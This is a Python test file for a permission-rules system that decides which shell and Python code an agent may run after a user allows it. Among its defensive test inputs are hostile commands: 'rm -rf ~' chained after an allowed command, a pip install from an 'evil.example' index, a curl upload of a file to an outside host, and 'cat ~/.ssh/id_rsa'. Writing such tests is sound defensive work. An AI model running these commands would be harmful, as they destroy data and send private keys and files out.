"""Rules: narrow, listed, taken back, shared by processes, and never more than was allowed."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from zero_one.safety.risk import classify
from zero_one.safety.rules import Rule, RuleError, Rules, exact_effects

FOLDER = "/home/ann/work"


@pytest.fixture
def rules(tmp_path: Path) -> Rules:
    return Rules(tmp_path / "trust" / "rules.json", now=lambda: 1000.0)


def allowed(rules: Rules, code: str, language: str = "shell", folder: str = FOLDER) -> Rule | None:
    return rules.allows(language, code, classify(code, language), folder)


def add(rules: Rules, code: str, language: str = "shell") -> Rule | None:
    return rules.add(language, code, classify(code, language), FOLDER, "Ann's phone")


@pytest.mark.parametrize(
    ("made", "tried", "holds"),
    [
        # Exactly one piece of code, but for white space that makes no difference.
        ("renice -n 0 $$", "renice -n 0 $$", True),
        ("renice -n 0 $$", "\nrenice -n 0 $$  \n", True),
        ("renice -n 0 $$", "renice -n 1 $$", False),
        ("renice -n 0 $$", "renice -n 0 $$; renice -n 0 $$", False),
        ("renice -n 0 $$", "renice -n 0 $$; rm -rf ~", False),
        ("pip install cowsay", "pip install cowsay", True),
        ("pip install cowsay", "pip install cowsay requests", False),
        ("pip install cowsay", "npm install cowsay", False),
        ("pip install cowsay", "pip install --index-url https://evil.example cowsay", False),
        # Exactly one set of files, whatever is written there.
        ("echo hi > notes.txt", "echo other > notes.txt", True),
        ("echo hi > notes.txt", "echo hi > other.txt", False),
        ("echo hi > notes.txt", "echo hi > notes.txt; echo hi > other.txt", False),
        ("mv a.txt b.txt", "mv a.txt b.txt", True),
        ("mv a.txt b.txt", "mv b.txt a.txt", False),
        # What is put together while it runs is only itself.
        ("echo hi > $x", "echo hi > $x", True),
        ("echo hi > $x", "echo ho > $x", False),
    ],
)
def test_a_rule_covers_what_was_allowed_and_nothing_else(rules: Rules, made: str, tried: str, holds: bool) -> None:
    assert add(rules, made) is not None
    assert (allowed(rules, tried) is not None) == holds


def test_the_same_files_by_another_language_are_the_same_files(rules: Rules) -> None:
    add(rules, "echo hi > notes.txt")
    assert allowed(rules, "open('notes.txt', 'w').write('hi')", "python") is not None
    assert allowed(rules, "import os\nopen('notes.txt', 'w').write('x')\nos.kill(1, 15)", "python") is None


def test_another_folder_is_another_thing(rules: Rules) -> None:
    add(rules, "echo hi > notes.txt")
    add(rules, "renice -n 0 $$")
    assert allowed(rules, "echo hi > notes.txt", folder="/elsewhere") is None
    assert allowed(rules, "renice -n 0 $$", folder="/elsewhere") is None


@pytest.mark.parametrize("code", ["rm -rf build", "curl -d @a https://x.example", "ls", "eval $x", "cat ~/.ssh/id_rsa"])
def test_there_is_no_rule_for_what_sends_or_destroys_nor_for_looking(rules: Rules, code: str) -> None:
    assert add(rules, code) is None
    assert not rules.path.exists()
    # Nor does one that somebody wrote into the file hold.
    rules.path.parent.mkdir(parents=True, exist_ok=True)
    row = {
        "number": 1,
        "folder": FOLDER,
        "language": "shell",
        "code": code,
        "effects": [],
        "by": "",
        "at": 0,
        "used_at": 0,
    }
    rules.path.write_text(json.dumps({"version": 1, "rules": [row]}))
    assert len(list(rules)) == 1
    assert allowed(rules, code) is None


def test_rules_say_who_when_and_what_and_last_over_a_restart(rules: Rules) -> None:
    add(rules, "renice -n 0 $$\necho more")
    add(rules, "echo hi > notes.txt")
    again = Rules(rules.path, now=lambda: 2000.0)
    again.used(2)
    first, second = Rules(rules.path)
    assert (first.number, first.by, first.at, first.used_at) == (1, "Ann's phone", 1000.0, 0.0)
    assert (second.number, second.used_at) == (2, 2000.0)
    assert first.words() == "shell: renice -n 0 $$ … (2 lines)"
    assert second.words() == "write notes.txt"
    assert os.stat(rules.path).st_mode & 0o777 == 0o600


def test_what_another_process_takes_back_is_gone_at_once_and_stays_gone(rules: Rules) -> None:
    add(rules, "renice -n 0 $$")
    add(rules, "echo hi > notes.txt")
    assert allowed(rules, "renice -n 0 $$")
    other = Rules(rules.path)
    assert other.revoke(1).code == "renice -n 0 $$"
    assert allowed(rules, "renice -n 0 $$") is None
    rules.used(1)
    add(rules, "git init")
    assert [rule.number for rule in rules] == [2, 3]
    with pytest.raises(RuleError, match="There is 2, 3"):
        other.revoke(1)


@pytest.mark.parametrize(
    "damage",
    [
        b"",
        b"{",
        b"[]",
        b'{"rules": [{}]}',
        b'{"rules": 3}',
        b"\xff\xfe",
        b"[" * 5000,
        b'{"rules": [{"effects": [[1]]}]}',
    ],
)
def test_a_damaged_file_allows_nothing_is_set_aside_and_said(rules: Rules, damage: bytes) -> None:
    add(rules, "renice -n 0 $$")
    rules.path.write_bytes(damage)
    late = Rules(rules.path)
    assert allowed(late, "renice -n 0 $$") is None
    assert "damaged" in late.lost
    [aside] = rules.path.parent.glob("rules.json.damaged-*")
    assert aside.read_bytes() == damage
    assert add(late, "renice -n 0 $$") is not None
    assert allowed(late, "renice -n 0 $$") is not None


def test_cut_at_every_byte_it_holds_the_old_rules_or_none_and_never_others(rules: Rules) -> None:
    add(rules, "renice -n 0 $$")
    add(rules, "echo hi > notes.txt")
    whole = rules.path.read_bytes()
    for size in range(0, len(whole), 7):
        rules.path.write_bytes(whole[:size])
        late = Rules(rules.path)
        assert list(late) == []
        assert late.lost
    rules.path.write_bytes(whole)
    assert len(list(Rules(rules.path))) == 2


def test_odd_text_in_a_rule_prints_on_one_line(rules: Rules) -> None:
    made = add(rules, "renice -n 0 $$ #\x1b[2J\u202e" + "x" * 500)
    assert made is None or ("\x1b" not in made.words() and len(made.words()) <= 100)
    effects = exact_effects(classify("echo hi > 'a\tb.txt'", "shell"))
    assert "\t" not in Rule(1, FOLDER, "shell", "x", effects).words()
